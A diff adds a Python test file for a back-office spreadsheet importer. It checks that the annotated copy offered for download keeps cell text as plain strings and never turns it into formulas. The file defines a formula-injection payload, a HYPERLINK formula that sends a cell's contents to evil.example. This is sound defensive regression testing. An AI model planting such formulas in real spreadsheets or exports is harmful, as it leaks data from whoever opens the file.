@@ -1,0 +1,52 @@
+"""Holes found by a second attacker's walk through the running back-office: the import's
+annotated copies, ...
+
+Each test failed before its fix (see the commit that added it)."""
+
+import csv
+import io
+
+import openpyxl
+import pytest
+import xlsxwriter
+
+from tests.backoffice.imports.tables import NEW_SESSION, opinion_row
+from tests.backoffice.imports.test_import_pages import BASE, preview_token, upload
+from tests.importers.workbook_builders import OPINION_HEADER
+
+SQLITE_ONLY = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
+# Text a spreadsheet runs when it is a formula: it calls a server with what it reads.
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+
+
+def _sheet_with_formula_text(path, rows) -> None:
+    """Write rows to path (.xlsx or .csv), every cell as text, as a unit's sheet may hold."""
+    if path.suffix == ".csv":
+        with path.open("w", newline="", encoding="utf-8-sig") as out:
+            csv.writer(out).writerows(rows)
+        return
+    with xlsxwriter.Workbook(str(path)) as book:
+        sheet = book.add_worksheet("城市建设和管理")
+        for r, row in enumerate(rows):
+            for c, value in enumerate(row):
+                sheet.write_string(r, c, str(value))
+
+
+@SQLITE_ONLY
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+def test_the_annotated_copy_never_turns_a_cells_text_into_a_formula(
+        app, as_user, tmp_path, suffix) -> None:
+    with app.app_context():
+        rows = [OPINION_HEADER, opinion_row(1, 主办单位=FORMULA), opinion_row(2)]
+    path = tmp_path / f"交办清单{suffix}"
+    _sheet_with_formula_text(path, rows)
+    client = as_user("operator")
+    token = preview_token(upload(client, path, new_session_name=NEW_SESSION))
+    annotated = client.get(f"{BASE}/preview/{token}/annotated/0")
+    book = openpyxl.load_workbook(io.BytesIO(annotated.data))
+    annotated.close()
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row
+             if cell.value == FORMULA]
+    # In the list of problems (单元格内容) and in the copied sheet alike.
+    assert len(cells) == 2, [(s.title, [c.value for c in s[2]]) for s in book]
+    assert [cell.data_type for cell in cells] == ["s", "s"]
